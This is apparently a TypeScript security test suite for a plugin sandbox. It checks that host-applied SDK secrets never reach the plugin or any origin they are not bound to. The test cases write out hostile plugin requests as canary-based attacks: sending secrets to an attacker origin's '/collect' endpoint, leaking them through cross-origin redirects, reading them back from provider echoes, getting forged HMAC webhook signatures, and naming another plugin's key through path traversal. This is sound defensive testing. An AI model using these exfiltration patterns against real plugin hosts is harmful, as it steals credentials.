// Escape and abuse corpus, part 4: SDK-format secrets, which are applied by the host and must never
// be learnt by the plugin. The policy decided here (SECURITY.md, "Host-side secrets"):
//  1. an SDK plugin never reads a secret (config.get refuses);
//  2. a secret — or a header value the host derived from it (Authorization, secret headers, the
//     signature) — never comes back into the isolate, even when the provider echoes requests;
//  3. a secret goes only to the origin its manifest binds it to (network[].secrets), never to
//     another granted origin, and never along a redirect to another origin;
//  4. a secret cannot be placed in a header the plugin may not set (Host, framing, Proxy-*, …) or
//     in one that follows redirects across origins (Accept, Content-Type, …).
// The plugin under attack reports what it saw reversed, so that the host's own scrubbing of its
// output cannot hide a leak from this check.
import crypto from 'node:crypto';
import { SDK_CANARY, SDK_SIGNING_CANARY } from './corpus-env.ts';
import type { CorpusEnv } from './corpus-env.ts';
import { all, findCanaries } from './tally.ts';
import type { SecurityCase } from './tally.ts';

type Case = SecurityCase<CorpusEnv>;
const SDK_SECRETS = { apiSecret: SDK_CANARY, signingKey: SDK_SIGNING_CANARY };

const reverse = (s: string) => [...s].reverse().join('');

/** The request code: run it, and return everything the plugin saw (status, headers, body, error) reversed. */
const seeing = (request: string) => `const rev = (s) => [...String(s)].reverse().join('');
  let seen;
  try { const res = await ctx.http.request(${request}); seen = JSON.stringify({ status: res.status, headers: res.headers, text: res.text }); }
  catch (e) { seen = JSON.stringify({ error: String(e && e.message), rule: e && e.rule, response: e && e.response }); }
  return rev(seen);`;

/** Everything the plugin saw, decoded, plus the base64 tokens in it decoded again (Basic auth). */
function viewOf(reversed: unknown): string {
  const text = reverse(String(reversed));
  const decoded = [...text.matchAll(/[A-Za-z0-9+/_-]{12,}={0,2}/g)].map((m) => Buffer.from(m[0], 'base64').toString('latin1'));
  return `${text}\n${decoded.join('\n')}`;
}

async function sdkSees(env: CorpusEnv, request: string): Promise<{ view: string; raw: unknown; ok: boolean }> {
  const r = await env.local.sandbox.invoke('sdkmal', 'getFields', ['en', seeing(request)]);
  return { view: r.ok ? viewOf(r.value) : JSON.stringify(r.error), raw: r.ok ? reverse(String(r.value)) : r.error, ok: r.ok };
}

/** Header values the host sent to a recorder since `from`, for the derived-value checks. */
function sentValues(env: CorpusEnv, from: number, names: string[]): string[] {
  return env.echo.requests.slice(from).flatMap((r) => names.map((n) => String(r.headers[n] ?? ''))).filter((v) => v.length >= 8);
}

function learnt(view: string, derived: string[]): [boolean, string][] {
  const found = findCanaries(view, SDK_SECRETS);
  const echoed = derived.filter((d) => view.includes(d) || view.includes(d.replace(/^(Bearer|Basic) /, '')));
  return [
    [found.length === 0, `the plugin saw ${found.join(', ')}`],
    [echoed.length === 0, `the plugin saw header values derived from its secret: ${echoed.map((e) => e.slice(0, 24)).join(', ')}`],
  ];
}

export const sdkCases: Case[] = [
  {
    name: 'SDK: config.get of a secret is refused',
    attack: "ctx.config.get('apiSecret'), ('signingKey'), and the raw config.get host call",
    async run(env) {
      const r = await env.local.sandbox.invoke('sdkmal', 'getFields', ['en', `const out = [];
        for (const k of ['apiSecret', 'signingKey']) { out.push(await ctx.config.get(k).then((v) => [...String(v)].reverse().join(''), (e) => e.rule)); out.push(await host.call('config.get', { key: k }).then((v) => [...String(v)].reverse().join(''), (e) => e.rule)); }
        return out;`]);
      const v = r.ok ? (r.value as string[]) : [];
      return all([[r.ok && v.every((x) => x === 'config.secret-host-side'), `answers ${JSON.stringify(r.ok ? v.map(reverse) : r.error)}`]]);
    },
  },
  {
    name: 'SDK: a bearer token echoed by the provider does not reach the plugin',
    attack: 'auth: {bearer: "apiSecret"} to the bound provider, which echoes the request (body and a reflecting header)',
    async run(env) {
      const from = env.echo.requests.length;
      const s = await sdkSees(env, `{ method: 'POST', url: '${env.echo.origin}/echo', json: { a: 1 }, auth: { bearer: 'apiSecret' } }`);
      return all([[env.echo.requests.length > from, 'the request did not leave'], ...learnt(s.view, sentValues(env, from, ['authorization']))]);
    },
  },
  {
    name: 'SDK: Basic auth with a misaligned username cannot be decoded back to the secret',
    attack: 'auth: {basic: {username: "ab", passwordKey: "apiSecret"}} so base64 is not aligned with the secret; the provider echoes it',
    async run(env) {
      const from = env.echo.requests.length;
      const s = await sdkSees(env, `{ method: 'GET', url: '${env.echo.origin}/echo', auth: { basic: { username: 'ab', passwordKey: 'apiSecret' } } }`);
      return all(learnt(s.view, sentValues(env, from, ['authorization'])));
    },
  },
  {
    name: 'SDK: a secret header echoed in the body and in a response header does not reach the plugin',
    attack: "secretHeaders: {'x-api-secret': 'apiSecret'}; the provider echoes the body and reflects the header",
    async run(env) {
      const from = env.echo.requests.length;
      const s = await sdkSees(env, `{ method: 'GET', url: '${env.echo.origin}/echo', secretHeaders: { 'x-api-secret': 'apiSecret' } }`);
      return all(learnt(s.view, sentValues(env, from, ['x-api-secret'])));
    },
  },
  {
    name: 'SDK: an octet-stream echo (base64 to the plugin) does not carry the secret',
    attack: 'secret header to a provider path that echoes as application/octet-stream, so the body reaches the plugin base64-encoded',
    async run(env) {
      const from = env.echo.requests.length;
      const s = await sdkSees(env, `{ method: 'GET', url: '${env.echo.origin}/bin/echo', secretHeaders: { 'x-api-secret': 'apiSecret' } }`);
      const view = `${s.view}\n${[...s.view.matchAll(/[A-Za-z0-9+/]{40,}={0,2}/g)].map((m) => Buffer.from(m[0], 'base64').toString('latin1')).join('\n')}`;
      return all(learnt(view, sentValues(env, from, ['x-api-secret'])));
    },
  },
  {
    name: 'SDK: signing a secret header with a key the plugin knows does not hand it the signature',
    attack: "sign {key: 'apiKey' (not secret, known), parts: [{header: 'x-api-secret'}]}: HMAC(known, secret) echoed back would be an offline oracle",
    async run(env) {
      const from = env.echo.requests.length;
      const s = await sdkSees(env, `{ method: 'GET', url: '${env.echo.origin}/echo', secretHeaders: { 'x-api-secret': 'apiSecret' }, sign: { key: 'apiKey', header: 'x-sign', parts: [{ header: 'x-api-secret' }] } }`);
      return all(learnt(s.view, sentValues(env, from, ['x-sign', 'x-api-secret'])));
    },
  },
  {
    name: 'SDK: signing attacker-chosen data does not hand the plugin the signature',
    attack: "sign {key: 'signingKey', parts: [{literal: <a provider webhook body the attacker wants signed>}]}, echoed back",
    async run(env) {
      const literal = '{"event":"payout.updated","id":"p_forged","status":"DONE"}';
      const forged = crypto.createHmac('sha256', SDK_SIGNING_CANARY).update(literal).digest('hex');
      const from = env.echo.requests.length;
      const s = await sdkSees(env, `{ method: 'GET', url: '${env.echo.origin}/echo', sign: { key: 'signingKey', header: 'x-sign', parts: [{ literal: ${JSON.stringify(literal)} }] } }`);
      return all([[!s.view.includes(forged), 'the plugin received HMAC(signingKey, its chosen data)'], ...learnt(s.view, sentValues(env, from, ['x-sign']))]);
    },
  },
  {
    name: 'SDK: a secret is not sent to another granted origin the plugin controls',
    attack: 'bearer, secret header and signature aimed at the second granted origin (the attacker\'s), not the provider the secrets are declared for',
    async run(env) {
      const from = env.evil.requests.length;
      const s = await sdkSees(env, `{ method: 'POST', url: '${env.evil.origin}/collect', json: { x: 1 }, auth: { bearer: 'apiSecret' }, secretHeaders: { 'x-api-secret': 'apiSecret' }, sign: { key: 'signingKey', header: 'x-sign', parts: ['body'] } }`);
      const received = env.evil.requests.slice(from);
      const sig = received.map((r) => r.headers['x-sign']).filter(Boolean);
      return all([
        [findCanaries(JSON.stringify(received), SDK_SECRETS).length === 0, `the attacker's origin received ${findCanaries(JSON.stringify(received), SDK_SECRETS).join(', ')}`],
        [sig.length === 0, 'the attacker\'s origin received a signature made with signingKey'],
        ...learnt(s.view, []),
      ]);
    },
  },
  {
    name: 'SDK: a manifest that binds no secret cannot use one while two origins are granted',
    attack: 'sdkfree (no network[].secrets, granted the provider and the attacker\'s origin) sends bearer / secret header / signature to each',
    async run(env) {
      const fromEcho = env.echo.requests.length;
      const fromEvil = env.evil.requests.length;
      const rules: string[] = [];
      for (const origin of [env.echo.origin, env.evil.origin]) {
        const r = await env.local.sandbox.invoke('sdkfree', 'getFields', ['en', seeing(`{ method: 'GET', url: '${origin}/x', auth: { bearer: 'apiSecret' }, secretHeaders: { 'x-api-secret': 'apiSecret' }, sign: { key: 'signingKey', header: 'x-sign', parts: ['path'] } }`)]);
        rules.push(r.ok ? String(JSON.parse(reverse(String(r.value))).rule) : r.error.kind);
      }
      const received = [...env.echo.requests.slice(fromEcho), ...env.evil.requests.slice(fromEvil)];
      return all([[findCanaries(JSON.stringify(received), SDK_SECRETS).length === 0 && received.every((q) => !q.headers['x-sign']), 'a secret or signature left'],
        [rules.every((r) => r === 'http.secret-origin'), `answers ${rules}`]]);
    },
  },
  {
    name: 'SDK: secret headers do not follow a redirect to another origin',
    attack: "secret in 'x-api-secret' and 'authorization' to the provider, which answers 302/307 to the attacker's granted origin",
    async run(env) {
      const from = env.evil.requests.length;
      for (const status of [302, 307, 308]) {
        await sdkSees(env, `{ method: 'GET', url: '${env.echo.origin}/redirect?status=${status}&to=' + encodeURIComponent('${env.evil.origin}/landed'), auth: { bearer: 'apiSecret' }, secretHeaders: { 'x-api-secret': 'apiSecret' }, sign: { key: 'signingKey', header: 'x-sign', parts: ['path'] } }`);
      }
      const received = env.evil.requests.slice(from);
      const found = findCanaries(JSON.stringify(received), SDK_SECRETS);
      return all([[found.length === 0, `the attacker's origin received ${found.join(', ')}`], [received.every((r) => !r.headers['x-sign']), 'the signature followed the redirect']]);
    },
  },
  {
    name: 'SDK: a secret cannot be put in a header that follows redirects or that the plugin may not set',
    attack: "secretHeaders naming accept, content-type, content-language, host, content-length, transfer-encoding, proxy-authorization, cookie-free user-agent, x-http-method-override; sign.header 'accept'",
    async run(env) {
      const names = ['accept', 'content-type', 'content-language', 'accept-language', 'host', 'content-length', 'transfer-encoding', 'proxy-authorization', 'user-agent', 'x-http-method-override', 'connection', 'te'];
      const fromEcho = env.echo.requests.length;
      const fromEvil = env.evil.requests.length;
      const answers: string[] = [];
      for (const n of names) {
        const s = await sdkSees(env, `{ method: 'GET', url: '${env.echo.origin}/redirect?status=302&to=' + encodeURIComponent('${env.evil.origin}/landed'), secretHeaders: { '${n}': 'apiSecret' } }`);
        const seen = JSON.parse(String(s.raw)) as { rule?: string; error?: string };
        answers.push(`${n}:${seen.rule ?? (seen.error ? 'failed-unrefused' : 'sent')}`);
      }
      await sdkSees(env, `{ method: 'GET', url: '${env.echo.origin}/redirect?status=302&to=' + encodeURIComponent('${env.evil.origin}/landed'), sign: { key: 'apiSecret', header: 'accept', parts: ['path'] } }`);
      const evilGot = findCanaries(JSON.stringify(env.evil.requests.slice(fromEvil)), SDK_SECRETS);
      // A framing or Host header carrying the secret is a header the plugin itself may not set.
      const framing = env.echo.requests.slice(fromEcho).filter((r) => ['host', 'content-length', 'transfer-encoding', 'proxy-authorization', 'user-agent', 'x-http-method-override']
        .some((h) => String(r.headers[h] ?? '').includes(SDK_CANARY)));
      return all([
        [evilGot.length === 0, `the attacker's origin received ${evilGot.join(', ')} after a redirect (${answers.join(' ')})`],
        [framing.length === 0, `the secret was sent in a forbidden header (${answers.join(' ')})`],
        [answers.every((a) => a.endsWith(':schema')), `not refused by policy: ${answers.filter((a) => !a.endsWith(':schema')).join(' ')}`],
      ]);
    },
  },
  {
    name: 'SDK: another plugin\'s config key cannot be named as a host-side secret',
    attack: "secretHeaders {'x-k': 'alice.apiSecret'}, auth bearer '../alice/apiSecret', sign key 'alice.apiSecret'",
    async run(env) {
      const from = env.echo.requests.length;
      await sdkSees(env, `{ method: 'GET', url: '${env.echo.origin}/echo', secretHeaders: { 'x-k': 'alice.apiSecret' } }`);
      await sdkSees(env, `{ method: 'GET', url: '${env.echo.origin}/echo', auth: { bearer: '../alice/apiSecret' } }`);
      await sdkSees(env, `{ method: 'GET', url: '${env.echo.origin}/echo', sign: { key: 'alice.apiSecret', header: 'x-sign', parts: ['path'] } }`);
      const got = env.echo.requests.slice(from);
      return all([[got.length === 0, `${got.length} requests went out with a foreign key named`]]);
    },
  },
];
